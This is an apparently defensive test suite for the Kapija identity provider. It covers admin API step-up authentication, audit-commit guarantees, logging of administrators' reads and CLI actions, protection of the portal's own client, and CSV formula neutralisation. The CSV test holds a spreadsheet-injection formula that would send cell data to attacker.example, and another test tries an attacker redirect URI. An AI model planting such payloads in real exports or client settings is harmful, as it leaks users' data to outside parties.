/**
 * Attack cases against the administration and the audit trail: the admin API held to the console's
 * level of assurance and freshness, audited changes that commit with their audit entry or not at
 * all, releases of personal data that never leave without their ledger entry, administrators' reads
 * and CLI changes in the trail, Kapija's own clients out of reach, and CSV exports without formulas.
 */
import { Readable } from 'node:stream';
import { randomBytes } from 'node:crypto';
import request from 'supertest';
import * as oidc from 'openid-client';
import { Agent } from '../support/browserless.js';
import { signIn } from '../support/sign-in.js';
import { createTestDatabase, stores } from '../support/databases.js';
import { createTestAccount, createTestClient, kapijaForSuite, testService, TEST_ENV } from '../support/kapija.js';
import { createRoleRepository } from '../../src/store/roles.js';
import { isPostgres } from '../../src/store/db.js';
import { ledgerEntries } from '../../src/account/ledger.js';
import { runCli } from '../../src/cli/index.js';
import { openHandles } from '../../src/app.js';
import { loadConfig } from '../../src/config.js';
import { createAuditLog } from '../../src/store/audit.js';
import type { Kapija } from '../../src/app.js';

const HIGH = 'http://eidas.europa.eu/LoA/high';
const now = () => Math.floor(Date.now() / 1000);

/** An admin API token as Kapija would issue it after a sign-in at `acr`, `age` seconds ago. */
async function mint(kapija: Kapija, accountId: string, clientId: string, acr = HIGH, age = 0): Promise<string> {
  const client = await kapija.provider.Client.find(clientId);
  const extra = { acr, auth_time: now() - age };
  return new kapija.provider.AccessToken({ accountId, client, scope: 'openid kapija:admin', grantId: 'attack-grant', extra } as never).save();
}

async function adminOf(kapija: Kapija) {
  const admin = await createTestAccount(kapija);
  await createRoleRepository(kapija.db).grant(admin.account.id, 'admin', 'test');
  return admin;
}

describe('the admin API at the console’s level (ADMIN_MIN_ACR high)', () => {
  const server = kapijaForSuite();
  const api = () => request(server.kapija.app.callback());

  test('NIST 800-63B 4.3 (AAL3) / RFC 9470 §3: a kapija:admin token from a password + TOTP sign-in is refused with a step-up challenge', async () => {
    const { kapija } = server;
    const admin = await adminOf(kapija);
    const citizen = await createTestAccount(kapija, { totp: false });
    const redirect = 'http://127.0.0.1:9/admin-script';
    const rp = await createTestClient(kapija, { redirect_uris: [redirect], scope: 'openid kapija:admin' });
    const config = await oidc.discovery(new URL(server.url), rp.clientId, rp.clientSecret, undefined, { execute: [oidc.allowInsecureRequests] });
    const verifier = oidc.randomPKCECodeVerifier();
    const url = oidc.buildAuthorizationUrl(config, { redirect_uri: redirect, scope: 'openid kapija:admin', code_challenge: await oidc.calculatePKCECodeChallenge(verifier), code_challenge_method: 'S256' });
    const cb = await signIn(new Agent(), url, redirect, admin);
    const tokens = await oidc.authorizationCodeGrant(config, cb, { pkceCodeVerifier: verifier });
    expect(tokens.claims()?.acr).toBe('http://eidas.europa.eu/LoA/substantial');

    for (const [method, path] of [['get', '/admin/api/citizens?q=a'], ['post', `/admin/api/citizens/${citizen.account.id}/lock`]] as const) {
      const res = await api()[method](path).set('authorization', `Bearer ${tokens.access_token}`);
      expect(res.status).toBe(401);
      expect(res.type).toBe('application/json');
      expect(res.body.error).toBe('admin.step_up_required');
      expect(res.headers['www-authenticate']).toMatch(/^Bearer realm="kapija-admin", error="insufficient_user_authentication"/);
      expect(res.headers['www-authenticate']).toContain(`acr_values="${HIGH}"`);
    }
    expect((await kapija.accounts.findById(citizen.account.id))!.status).toBe('active');
  });

  test('OWASP ASVS 5.0 V7.5 / RFC 9470 §3 (max_age): a change through the API needs a sign-in from the last 10 minutes, as in the console', async () => {
    const { kapija } = server;
    const admin = await adminOf(kapija);
    const citizen = await createTestAccount(kapija, { totp: false });
    const script = await createTestClient(kapija, { scope: 'openid kapija:admin' });
    const stale = await mint(kapija, admin.account.id, script.clientId, HIGH, 11 * 60);
    const read = await api().get(`/admin/api/citizens/${citizen.account.id}`).set('authorization', `Bearer ${stale}`);
    expect(read.status).toBe(200);
    const lock = await api().post(`/admin/api/citizens/${citizen.account.id}/lock`).set('authorization', `Bearer ${stale}`);
    expect(lock.status).toBe(401);
    expect(lock.body.error).toBe('admin.reauthenticate');
    expect(lock.headers['www-authenticate']).toMatch(/error="insufficient_user_authentication".*max_age=600/);
    expect((await kapija.accounts.findById(citizen.account.id))!.status).toBe('active');

    const fresh = await mint(kapija, admin.account.id, script.clientId, HIGH, 60);
    expect((await api().post(`/admin/api/citizens/${citizen.account.id}/lock`).set('authorization', `Bearer ${fresh}`)).status).toBe(200);
    expect((await kapija.accounts.findById(citizen.account.id))!.status).toBe('locked');
  });
});

/** Makes the store refuse audit entries with this action, as a full disk or a failing constraint would. */
async function refuseAuditEntries(kapija: Kapija, action: string): Promise<() => Promise<void>> {
  const name = `refuse_${action.replace(/\W/g, '_')}`;
  if (isPostgres(kapija.db)) {
    await kapija.db.raw(`create or replace function ${name}() returns trigger language plpgsql as $$ begin raise exception 'audit refused'; end $$`);
    await kapija.db.raw(`create trigger ${name} before insert on audit_events for each row when (new.action = '${action}') execute function ${name}()`);
    return async () => {
      await kapija.db.raw(`drop trigger ${name} on audit_events`);
    };
  }
  await kapija.db.raw(`create trigger ${name} before insert on audit_events when new.action = '${action}' begin select raise(abort, 'audit refused'); end`);
  return async () => {
    await kapija.db.raw(`drop trigger ${name}`);
  };
}

describe('administrators’ reads in the trail', () => {
  const server = kapijaForSuite();

  test('OWASP ASVS 5.0 V16.2.1 / GDPR Art. 15: a citizen search, a citizen’s session list and a read of their ledger through the audit API are recorded, and show in their ledger', async () => {
    const { kapija } = server;
    const admin = await adminOf(kapija);
    const citizen = await createTestAccount(kapija, { totp: false });
    const script = await createTestClient(kapija, { scope: 'openid kapija:admin' });
    const auth = { authorization: `Bearer ${await mint(kapija, admin.account.id, script.clientId)}` };
    const api = () => request(kapija.app.callback());
    const search = await api().get('/admin/api/citizens').query({ q: citizen.username }).set(auth);
    expect(search.body.citizens).toHaveLength(1);
    expect((await api().get('/admin/api/sessions').query({ account: citizen.account.id }).set(auth)).status).toBe(200);
    expect((await api().get('/admin/api/audit').query({ chain: `account:${citizen.account.id}` }).set(auth)).status).toBe(200);

    const trail = await kapija.audit.list({ chain: 'admin', actor: admin.account.id });
    const searched = trail.find((e) => e.action === 'admin.citizen.searched');
    expect(searched?.details).toMatchObject({ query: citizen.username, results: 1 });
    const about = trail.filter((e) => e.subjectAccountId === citizen.account.id).map((e) => e.action).sort();
    expect(about).toEqual(['admin.citizen.ledger_read', 'admin.citizen.sessions_listed']);
    const ledger = await ledgerEntries(kapija.audit, citizen.account.id, { limit: 50, offset: 0 });
    expect(ledger.entries.map((e) => e.action)).toEqual(expect.arrayContaining(['admin.citizen.ledger_read', 'admin.citizen.sessions_listed']));
  });
});

describe.each(stores())('audited changes and releases on %s', (store) => {
  let token: string;
  const server = kapijaForSuite({ store, env: { TRUST_PROXY: 'true' } });
  beforeAll(async () => {
    const admin = await adminOf(server.kapija);
    const script = await createTestClient(server.kapija, { scope: 'openid kapija:admin' });
    token = await mint(server.kapija, admin.account.id, script.clientId);
  });
  const api = () => request(server.kapija.app.callback());
  const adminTrail = (subject: string) => server.kapija.audit.list({ chain: 'admin', subject });

  test('OWASP ASVS 5.0 V16.2.5 / V16.3.2: an unlock sent with a 100-character X-Forwarded-For is recorded; what is not an address is not stored as one', async () => {
    const citizen = await createTestAccount(server.kapija, { totp: false });
    const forwarded = 'x'.repeat(100);
    const locked = await api().post(`/admin/api/citizens/${citizen.account.id}/lock`).set('authorization', `Bearer ${token}`).set('x-forwarded-for', forwarded);
    expect(locked.status).toBe(200);
    const unlocked = await api().post(`/admin/api/citizens/${citizen.account.id}/unlock`).set('authorization', `Bearer ${token}`).set('x-forwarded-for', '203.0.113.7');
    expect(unlocked.status).toBe(200);
    const trail = await adminTrail(citizen.account.id);
    const byAction = Object.fromEntries(trail.map((e) => [e.action, e]));
    expect(byAction['admin.citizen.locked']?.ip).toBeNull();
    expect(byAction['admin.citizen.unlocked']?.ip).toBe('203.0.113.7');
    expect((await server.kapija.audit.verify('admin')).ok).toBe(true);
  });

  test('OWASP ASVS 5.0 V16.3.2 / NIST 800-53 AU-9: a factor reset whose audit entry cannot be written is not made (change and entry commit together)', async () => {
    const citizen = await createTestAccount(server.kapija);
    const restore = await refuseAuditEntries(server.kapija, 'admin.citizen.factors_reset');
    try {
      const res = await api().post(`/admin/api/citizens/${citizen.account.id}/reset-factors`).set('authorization', `Bearer ${token}`);
      expect(res.status).toBeGreaterThanOrEqual(500);
    } finally {
      await restore();
    }
    expect((await server.kapija.credentials.list(citizen.account.id)).map((c) => c.type).sort()).toContain('totp');
    expect((await adminTrail(citizen.account.id)).map((e) => e.action)).not.toContain('admin.citizen.factors_reset');
    const again = await api().post(`/admin/api/citizens/${citizen.account.id}/reset-factors`).set('authorization', `Bearer ${token}`);
    expect(again.status).toBe(200);
    expect(await server.kapija.credentials.list(citizen.account.id)).toEqual([]);
    expect((await adminTrail(citizen.account.id)).map((e) => e.action)).toContain('admin.citizen.factors_reset');
  });

  test('GDPR Art. 30 / OWASP ASVS 5.0 V16.2.1: userinfo and introspection are not sent when their ledger entry cannot be written (503 JSON)', async () => {
    const svc = await testService(server);
    const cb = await signIn(new Agent(), svc.authorize({ scope: 'openid profile email' }), svc.redirect, svc.citizen);
    const tokens = await svc.token({ grant_type: 'authorization_code', code: cb.searchParams.get('code')!, redirect_uri: svc.redirect });
    expect(tokens.status).toBe(200);
    const accessToken = tokens.body.access_token!;
    const userinfo = () => fetch(`${server.url}/me`, { headers: { authorization: `Bearer ${accessToken}` } });
    const restore = await refuseAuditEntries(server.kapija, 'ledger.data_released');
    try {
      const refused = await userinfo();
      expect(refused.status).toBe(503);
      const body = (await refused.json()) as Record<string, unknown>;
      expect(body.error).toBe('temporarily_unavailable');
      expect(JSON.stringify(body)).not.toContain(svc.citizen.account.email!);
      const introspected = await svc.post('/token/introspection', { token: accessToken });
      expect(introspected.status).toBe(503);
      expect(introspected.body.error).toBe('temporarily_unavailable');
      expect(introspected.body.sub).toBeUndefined();
    } finally {
      await restore();
    }
    const released = await userinfo();
    expect(released.status).toBe(200);
    expect(((await released.json()) as { email?: string }).email).toBe(svc.citizen.account.email);
    const ledger = await server.kapija.audit.list({ chain: `account:${svc.citizen.account.id}`, action: 'ledger.data_released' });
    expect(ledger.map((e) => e.details.channel)).toContain('userinfo');
  });
});

describe('Kapija’s own clients', () => {
  const server = kapijaForSuite();

  test('OWASP ASVS 5.0 V8.2.1 / RFC 7591 §2: the account portal’s own client (kapija-account) cannot be changed, disabled, re-keyed or deleted through the admin API', async () => {
    const { kapija } = server;
    const admin = await adminOf(kapija);
    const script = await createTestClient(kapija, { scope: 'openid kapija:admin' });
    const auth = { authorization: `Bearer ${await mint(kapija, admin.account.id, script.clientId)}`, 'accept-language': 'en' };
    const before = await kapija.clients.find('kapija-account');
    expect(before).toBeDefined();
    const api = () => request(kapija.app.callback());
    const attempts = [
      api().patch('/admin/api/clients/kapija-account').set(auth).send({ redirect_uris: ['https://attacker.example/cb'] }),
      api().post('/admin/api/clients/kapija-account/secret').set(auth),
      api().post('/admin/api/clients/kapija-account/disable').set(auth),
      api().delete('/admin/api/clients/kapija-account').set(auth),
    ];
    for (const res of await Promise.all(attempts)) {
      expect(res.status).toBe(409);
      expect(res.body.error).toBe('admin.client.protected');
      expect(res.body.error_description).toMatch(/account portal/);
    }
    expect(await kapija.clients.find('kapija-account')).toEqual(before);
  });
});

describe('CSV exports', () => {
  let clock = Date.now();
  const server = kapijaForSuite({ env: { OPEN_DATA_MIN_COUNT: '1' }, options: { now: () => clock } });

  test('OWASP CSV Injection / CWE-1236: a service name or id that a spreadsheet would run as a formula is neutralised in the citizen’s activity export and in open data', async () => {
    const formula = '=HYPERLINK("https://attacker.example/?leak="&A2,"open")';
    const svc = await testService(server, { client_id: `-2-3-${randomBytes(3).toString('hex')}`, client_name: formula });
    const agent = new Agent('en');
    await signIn(agent, svc.authorize({ scope: 'openid' }), svc.redirect, svc.citizen);

    let page = await agent.request(new URL('/account', server.url));
    if (page.status === 303) {
      const back = await agent.request(await signIn(agent, new URL(page.headers.get('location')!), `${server.url}/account/callback`, svc.citizen));
      page = await agent.request(new URL(back.headers.get('location')!, server.url));
    }
    expect(page.status).toBe(200);
    const csv = (await agent.request(new URL('/account/activity/export?format=csv', server.url))).body;
    expect(csv).toContain(`"'${formula.replace(/"/g, '""')}"`);
    expect(csv).toContain(`"'${svc.rp.clientId}"`);
    expect(csv).not.toMatch(/(^|,)"?[=+@-]/m);

    clock += 24 * 3600 * 1000;
    const open = await (await fetch(`${server.url}/open-data/signins-by-service.csv`)).text();
    expect(open).toContain(`,'${svc.rp.clientId},`);
    expect(open).not.toMatch(/(^|,)[=+@-]/m);
  });
});

describe.each(stores())('CLI changes in the trail on %s', (store) => {
  test('OWASP ASVS 5.0 V16.2.1 / NIST 800-53 AU-2: client create, user create, user totp-import and keys rotate are recorded with actor cli', async () => {
    const db = await createTestDatabase(store);
    try {
      const env = { ...TEST_ENV, MASTER_KEY: randomBytes(32).toString('base64'), ...db.env };
      const run = (argv: string[], stdin = '') => runCli(argv, env, { stdout: () => {}, stderr: () => {}, stdin: Readable.from(stdin ? [stdin] : []) });
      expect(await run(['migrate'])).toBe(0);
      expect(await run(['client', 'create', '--client-id', 'cli-made', '--redirect-uri', 'https://rp.example/cb'])).toBe(0);
      expect(await run(['user', 'create', '--username', 'cli-citizen'], 'a long enough password 1')).toBe(0);
      expect(await run(['user', 'totp-import', '--username', 'cli-citizen', '--seed', 'JBSWY3DPEHPK3PXPJBSWY3DP'])).toBe(0);
      expect(await run(['keys', 'rotate'])).toBe(0);
      const h = openHandles(loadConfig(env));
      try {
        const trail = await createAuditLog(h.db).list({ chain: 'admin', actor: 'cli' });
        const account = await h.accounts.findByUsername('cli-citizen');
        expect(trail.map((e) => e.action).sort()).toEqual(['admin.account.created', 'admin.account.totp_imported', 'admin.client.created', 'admin.keys.rotated']);
        expect(trail.find((e) => e.action === 'admin.client.created')?.clientId).toBe('cli-made');
        expect(trail.filter((e) => e.action.startsWith('admin.account.')).map((e) => e.subjectAccountId)).toEqual([account!.id, account!.id]);
        expect(JSON.stringify(trail)).not.toMatch(/JBSWY3DP|long enough password/);
      } finally {
        await h.db.destroy();
      }
    } finally {
      await db.drop();
    }
  });
});
